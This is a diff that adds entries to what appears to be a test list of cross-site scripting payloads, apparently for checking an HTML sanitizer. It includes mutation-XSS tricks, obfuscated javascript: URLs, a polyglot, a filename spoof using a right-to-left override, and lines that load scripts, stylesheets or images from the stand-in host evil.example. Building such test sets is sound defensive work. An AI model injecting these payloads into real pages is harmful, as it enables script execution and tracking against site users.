@@ -16,4 +16,11 @@ PAYLOADS = (
     "<!--<img src=--><img src=x onerror=pwned=1>//-->", "<![CDATA[<script>pwned=1</script>]]>",
     "--></textarea></title><img src=x onerror=pwned=1>", "\u202egnp.exe\u202c evil", "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
     "\ufeff<script>pwned=1</script>", "\\u003cscript\\u003epwned=1",
+    "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">", "\"}</script><script>pwned=1</script>",
+    "<svg></p><style><a id=\"</style><img src=x onerror=pwned=1>\">", "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>",
+    "</style><style>@import '//evil.example/y.css';*{background:url(//evil.example/z)}",
+    "<p style=\"background:url(//evil.example/p)\">", "<a href=\"&#106;avascript:pwned=1\">click</a>",
+    "<img src=x:x onerror=&#112;wned=1>", "<script src=//evil.example/s.js></script>", "<img srcset=//evil.example/i>",
+    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned=1 )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=pwned=1//>",
 )
